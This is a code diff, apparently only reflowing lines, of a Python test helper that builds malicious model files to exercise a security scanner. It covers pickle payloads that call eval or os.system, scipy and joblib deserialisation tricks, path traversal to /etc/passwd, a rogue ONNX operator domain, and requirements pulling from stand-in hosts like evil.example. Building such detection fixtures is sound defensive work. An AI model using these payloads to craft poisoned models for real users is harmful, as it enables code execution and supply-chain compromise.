@@ -52,17 +52,50 @@ def hidden(module, name, argument, how):
         "inst": b"(" + text(argument) + b"i" + f"{module}\n{name}\n".encode() + STOP,
         "obj": b"(c" + f"{module}\n{name}\n".encode() + text(argument) + b"o" + STOP,
         "stack-global": b"\x80\x04" + short(module) + short(name) + b"\x93" + call,
-        "memo": b"\x80\x04" + short(module) + b"\x940" + short(name) + b"\x940h\x00h\x01\x93" + call,
-        "dup": b"\x80\x04" + short(module) + b"2\x940h\x00" + b"0" + b"h\x00" + short(name) + b"\x93" + call,
-        "binunicode8": b"\x80\x04\x8d" + struct.pack("<Q", len(module)) + module.encode() + short(name) + b"\x93" + call,
+        "memo": b"\x80\x04"
+        + short(module)
+        + b"\x940"
+        + short(name)
+        + b"\x940h\x00h\x01\x93"
+        + call,
+        "dup": b"\x80\x04"
+        + short(module)
+        + b"2\x940h\x00"
+        + b"0"
+        + b"h\x00"
+        + short(name)
+        + b"\x93"
+        + call,
+        "binunicode8": b"\x80\x04\x8d"
+        + struct.pack("<Q", len(module))
+        + module.encode()
+        + short(name)
+        + b"\x93"
+        + call,
         "old-name": b"c__builtin__\neval\n" + text(argument) + b"\x85R" + STOP,
-        "newobj": b"\x80\x02c" + f"{module}\n{name}\n".encode() + text(argument) + b"\x85\x81" + STOP,
-        "dotted": b"\x80\x04" + short("sklearn.pipeline") + short("Pipeline.__init__.__globals__") + b"\x93" + STOP,
+        "newobj": b"\x80\x02c"
+        + f"{module}\n{name}\n".encode()
+        + text(argument)
+        + b"\x85\x81"
+        + STOP,
+        "dotted": b"\x80\x04"
+        + short("sklearn.pipeline")
+        + short("Pipeline.__init__.__globals__")
+        + b"\x93"
+        + STOP,
         "ext": b"\x80\x02\x82\x01)R" + STOP,
         "persistent": b"\x80\x02" + text("token") + b"Q" + STOP,
-        "before-a-break": b"c" + f"{module}\n{name}\n".encode() + text(argument) + b"\x85R" + b"\xff",
-        "computed": b"\x80\x04c" + b"builtins\nstr\n" + text(module) + b"\x85R" + short(name) + b"\x93" + call,
-        "patched-class": b"\x80\x02csklearn.pipeline\nPipeline\nN}" + text("predict") + b"cnumpy\nlog1p\ns\x86b" + STOP,
+        "before-a-break": b"c"
+        + f"{module}\n{name}\n".encode()
+        + text(argument)
+        + b"\x85R"
+        + b"\xff",
+        "computed": b"\x80\x04c"
+        b"builtins\nstr\n" + text(module) + b"\x85R" + short(name) + b"\x93" + call,
+        "patched-class": b"\x80\x02csklearn.pipeline\nPipeline\nN}"
+        + text("predict")
+        + b"cnumpy\nlog1p\ns\x86b"
+        + STOP,
     }[how]
 
 
@@ -150,7 +183,9 @@ def _distribution(touch):
     """scipy's distributions run a template out of their own state when they are unpickled."""
     return (
         b"\x80\x02cscipy.stats._continuous_distns\nuniform_gen\n)\x81}"
-        + text("_parse_arg_template") + text(touch) + b"sb."
+        + text("_parse_arg_template")
+        + text(touch)
+        + b"sb."
     )
 
 
@@ -165,7 +200,12 @@ def _wrapper(aligned):
     state = {"shape": (40,), "order": "C", "allow_mmap": False}
     body = pickle.dumps(state, 2)[2:-1]  # without PROTO and STOP
     dtype = b"cnumpy\ndtype\n" + text("u1") + b"\x85R"
-    more = text("dtype") + dtype + b"s" + (text("numpy_array_alignment_bytes") + b"K\x10s" if aligned else b"")
+    more = (
+        text("dtype")
+        + dtype
+        + b"s"
+        + (text("numpy_array_alignment_bytes") + b"K\x10s" if aligned else b"")
+    )
     return b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81" + body + more + b"b"
 
 
@@ -201,7 +241,9 @@ def change(model, flavor="python_function", **values):
 
 def skops_of(module, name, loader="TypeNode"):
     node = {"__class__": name, "__module__": module, "__loader__": loader, "__id__": 1}
-    return zipped({"schema.json": json.dumps({**node, "protocol": 2, "_skops_version": "0"}).encode()})
+    return zipped(
+        {"schema.json": json.dumps({**node, "protocol": 2, "_skops_version": "0"}).encode()}
+    )
 
 
 def _put(name, content):
@@ -240,7 +282,9 @@ def _onnx(model, canary):
     from onnx import helper
 
     info = helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, [1])
-    graph = helper.make_graph([helper.make_node("Own", ["x"], ["x"], domain="evil.ops")], "g", [info], [info])
+    graph = helper.make_graph(
+        [helper.make_node("Own", ["x"], ["x"], domain="evil.ops")], "g", [info], [info]
+    )
     made = helper.make_model(graph, opset_imports=[helper.make_opsetid("evil.ops", 1)])
     (model / "model.onnx").write_bytes(made.SerializeToString())
     change(model, "onnx", data="model.onnx")
@@ -265,7 +309,9 @@ def models():
         "skops-operator": _skops("operator", "methodcaller", "OperatorFuncNode"),
         "skops-method": _skops("sklearn.pipeline", "Pipeline", "MethodNode"),
         "own-loader": _keys("python_function", loader_module="evilmod"),
-        "code-model-loader": _keys("python_function", loader_module="mlflow.pyfunc.loaders.code_model"),
+        "code-model-loader": _keys(
+            "python_function", loader_module="mlflow.pyfunc.loaders.code_model"
+        ),
         "code-folder": _keys("python_function", code="code"),
         "model-from-code": _keys("python_function", model_code_path="model.py"),
         "unknown-flavor": _keys("keras", data="data"),
@@ -273,7 +319,9 @@ def models():
         "model-class": _keys("xgboost", model_class="os.system"),
         "predict-fn": _keys("python_function", predict_fn="__reduce__"),
         "path-out": _keys("python_function", data="../other"),
-        "artifact-out": _keys("python_function", artifacts={"a": {"path": "/etc/passwd", "uri": "x"}}),
+        "artifact-out": _keys(
+            "python_function", artifacts={"a": {"path": "/etc/passwd", "uri": "x"}}
+        ),
         "nested-mlmodel": _inner,
         "link": _link,
         "python-file": _put("helpers.py", b"import os\n"),
@@ -289,9 +337,15 @@ def models():
         "requirement-vcs": _put("requirements.txt", b"git+https://evil.example/p.git\n"),
         "requirement-at": _put("requirements.txt", b"numpy @ file:///tmp/x\n"),
         "requirement-path": _put("requirements.txt", b"./wheels/p.whl\n"),
-        "requirement-index": _put("requirements.txt", b"--extra-index-url https://evil.example\nnumpy\n"),
-        "conda-pip-url": _put("conda.yaml", b"dependencies:\n- python\n- pip:\n  - git+https://e.example/p\n"),
-        "conda-channel": _put("conda.yaml", b"channels: [https://evil.example]\ndependencies: [python]\n"),
+        "requirement-index": _put(
+            "requirements.txt", b"--extra-index-url https://evil.example\nnumpy\n"
+        ),
+        "conda-pip-url": _put(
+            "conda.yaml", b"dependencies:\n- python\n- pip:\n  - git+https://e.example/p\n"
+        ),
+        "conda-channel": _put(
+            "conda.yaml", b"channels: [https://evil.example]\ndependencies: [python]\n"
+        ),
         "onnx-domain": _onnx,
         "onnx-data-out": _onnx_data,
     }
@@ -301,4 +355,3 @@ def _deep(content):
     for _ in range(8):
         content = gzip.compress(content)
     return content
-
